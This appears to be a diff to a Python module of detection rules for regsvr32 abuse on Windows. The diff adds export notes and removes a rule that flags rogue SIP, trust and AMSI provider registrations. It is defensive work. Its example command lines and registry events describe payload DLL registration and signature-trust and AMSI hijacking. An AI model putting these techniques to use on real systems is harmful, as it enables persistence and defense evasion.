         "regsvr32 /s C:\\Users\\bob\\Downloads\\codec-pack\\x.ax",
-        "regsvr32.exe /s C:\\Users\\Public\\payload.dll",))
+        "regsvr32.exe /s C:\\Users\\Public\\payload.dll",),
+      sigma=not_exportable("needs the module resolved against the working directory and its depth below the folder"))
 def user_files(inv):
     for t in _payloads(inv):
         if t.staging and t.where in USER_FILE_FOLDERS:
@@ -1531,7 +901,8 @@ def _written_names(t):
         "regsvr32 -s ..\\..\\tools\\PartCover\\PartCover.CorDriver.dll",
         "regsvr32.exe ..\\x64\\Debug\\WmiProviderExample.dll",),
       false_positives="A build or sample script that keeps a short lower-case module in the "
-                      "folder above the one it runs in.")
+                      "folder above the one it runs in.",
+      sigma=not_exportable("needs the module argument parsed out of the command line and its file name read"))
 def parent_folder_download(inv):
     for m in inv.modules:
         raw = m.raw.strip().replace("/", "\\")
@@ -1577,7 +948,8 @@ def parent_folder_download(inv):
         "regsvr32 /s C:\\Users\\Public\\x84wFBc7.dll",),
       false_positives="Software installed in a root folder with an abbreviated name (consonant "
                       "runs such as C:\\Tools\\DirBkgndExt when five letters long) or numbered "
-                      "control files right in it.")
+                      "control files right in it.",
+      sigma=not_exportable("needs the module's resolved folder and each folder and file name judged as made up"))
 def root_folder_made_up(inv):
     for m in inv.modules:
         if m.location != winpath.OTHER or m.where == "drive root" or len(m.comps) < 3:
@@ -1619,7 +991,8 @@ def root_folder_made_up(inv):
       negatives=(
         "regsvr32 /s /u C:\\ProgramData\\x.dll",
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
-      false_positives="How-to pages and hand-written scripts (/unregister, /CodeBase).")
+      false_positives="How-to pages and hand-written scripts (/unregister, /CodeBase).",
+      sigma=not_exportable("needs the switches parsed as regsvr32 reads them (one letter after the dash)"))
 def typed_switch(inv):
     typed = list(inv.spelled_switches) + list(inv.unknown_switches)
     if not typed:
@@ -1649,7 +1022,8 @@ PER_USER_WORDS = frozenset(("user", "u", "/user", "-user", "peruser", "per-user"
         'regsvr32 /s /n /i:user "C:\\Users\\bob\\AppData\\Local\\Microsoft\\TeamsMeetingAddin\\1.0\\x64\\Microsoft.Teams.AddinLoader.dll"',
         'regsvr32 /s /n /i:Install "C:\\Program Files\\Vendor\\x.dll"',
         "regsvr32 /s C:\\Users\\bob\\AppData\\Local\\Vendor\\x.dll",),
-      false_positives="A per-user install whose DllInstall takes its own word.")
+      false_positives="A per-user install whose DllInstall takes its own word.",
+      sigma=not_exportable("needs the /i: argument parsed and the module's resolved folder"))
 def per_user_code_word(inv):
     if not inv.flags >= {"n", "i"} or inv.install_arg is None or inv.install is not None:
         return None
@@ -1679,7 +1053,9 @@ _ATOMIC_TEST = re.compile(r"^t[0-9]{4}(?:\.[0-9]{3})?$")
       negatives=(
         "regsvr32 /s C:\\Tools\\atomics\\bin\\x.dll",
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",),
-      false_positives="Purple-team exercises, by design.")
+      false_positives="Purple-team exercises, by design.",
+      sigma=not_exportable("needs the module's resolved path and an atomics\\T<number> folder in it; a "
+                           "substring match would also match the test's own download URL in other tools"))
 def atomic_test(inv):
     for t in inv.targets:
         comps = t.lower.split("\\")
@@ -1688,79 +1064,3 @@ def atomic_test(inv):
                 return "%s %s is an Atomic Red Team test (%s)" % (_role(t, inv), _clip(t.path),
                                                                    b.upper())
     return None
-
-
-# In-process providers that Windows loads into other processes from a registry value: a module
-# regsvr32 registers there runs in every process that verifies a signature (SIP and trust
-# providers), scans content (AMSI), or starts a service (time providers, print monitors, netsh).
-# (key part, what it is, whether the key alone is the registration)
-PROVIDER_KEYS = (
-    ("\\microsoft\\amsi\\providers\\", "AMSI provider", True),
-    ("\\cryptsipdll", "SIP provider", False),
-    ("\\microsoft\\cryptography\\providers\\trust\\", "trust provider", False),
-    ("\\w32time\\timeproviders\\", "time provider", False),
-    ("\\control\\print\\monitors\\", "print monitor", False),
-    ("\\software\\microsoft\\netsh", "netsh helper", False),
-    ("\\windows nt\\currentversion\\windows\\appinit_dlls", "AppInit DLL", False),
-)
-# Of these, the ones whose module is evidence wherever it is outside Windows (a vendor that
-# installs a time provider or print monitor in Program Files is ordinary).
-_TRUST_PROVIDERS = ("AMSI provider", "SIP provider", "trust provider")
-
-
-@rule("R32-058", "regsvr32 registered a SIP, trust, AMSI or other in-process provider",
-      actor(REGISTRY), risk=75, family="registry_persistence_and_scrobj_com_hijack",
-      evidence="persistence",
-      techniques=("T1553.003", "T1562.001", "T1546", T),
-      sources=("L26", "Atomic Red Team T1553.003", "SpecterOps Subverting Trust in Windows"),
-      description=("A registry write by regsvr32 (Sysmon 12/13/14 or an EDR's registry event) "
-                   "under AMSI\\Providers, a CryptSIPDll* SIP key or Cryptography\\Providers\\Trust "
-                   "with a module outside the Windows folder, or a time provider, print monitor, "
-                   "netsh helper or AppInit value with a module outside Windows and Program "
-                   "Files: the module's DllRegisterServer made itself a provider that Windows "
-                   "loads into other processes (signature checks that pass anything, AMSI "
-                   "blinded, persistence)."),
-      positives=(
-        {"EventCode": "13",
-         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllGetSignedDataMsg\\{C3BB8D1D-7DC4-4C4A-B1BA-2C3F6F0C9F4E}\\Dll",
-         "Details": "C:\\AtomicRedTeam\\atomics\\T1553.003\\bin\\GTSIPProvider.dll"},
-        {"EventCode": "12", "EventType": "CreateKey",
-         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{2E5D8A62-77F9-4F7B-A90C-2744820139B2}"},
-        {"EventCode": "13",
-         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\Providers\\Trust\\FinalPolicy\\{00AAC56B-CD44-11D0-8CC2-00C04FC295EE}\\$DLL",
-         "Details": "C:\\Users\\bob\\AppData\\Local\\Temp\\trust.dll"},),
-      negatives=(
-        {"EventCode": "13",
-         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllGetSignedDataMsg\\{603BCC1F-4B59-4E08-B724-D2C6297EF351}\\Dll",
-         "Details": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\pwrshsip.dll"},
-        {"EventCode": "13",
-         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Cryptography\\OID\\EncodingType 0\\CryptSIPDllGetSignedDataMsg\\{C689AAB8-8E78-11D0-8C47-00C04FC295EE}\\FuncName",
-         "Details": "CryptSIPGetSignedDataMsg"},
-        {"EventCode": "13", "Image": "C:\\Program Files\\Vendor\\setup.exe",
-         "TargetObject": "HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{2E5D8A62-77F9-4F7B-A90C-2744820139B2}\\(Default)",
-         "Details": "Vendor AMSI provider"},
-        {"EventCode": "13",
-         "TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\W32Time\\TimeProviders\\VendorTime\\DllName",
-         "Details": "C:\\Program Files\\Vendor\\vtime.dll"},),
-      false_positives="Security products and signing tools whose installer registers their own "
-                      "AMSI or SIP provider with regsvr32 (allowlist them by key).")
-def provider_hijack(ev):
-    key = ev.registry_path.lower()
-    for part, what, key_alone in PROVIDER_KEYS:
-        if part not in key:
-            continue
-        data = ev.registry_data.strip().strip('"')
-        if key_alone:
-            return "regsvr32 registered an %s: %s" % (what, _clip(ev.registry_path))
-        if "\\" not in data:            # a function name, a flag, or a bare name from System32
-            return None
-        t = winpath.classify(data.split(",")[0].strip('"'))
-        if t.location == winpath.WINDOWS and not t.anomalies:
-            return None
-        if what not in _TRUST_PROVIDERS and t.location == winpath.PROGRAM_FILES:
-            return None
-        return "regsvr32 made %s a %s: %s" % (_clip(data, 120), what, _clip(ev.registry_path))
-    return None
-
-
-RULES, RULES_BY_ID, RULES_FOR = finish()
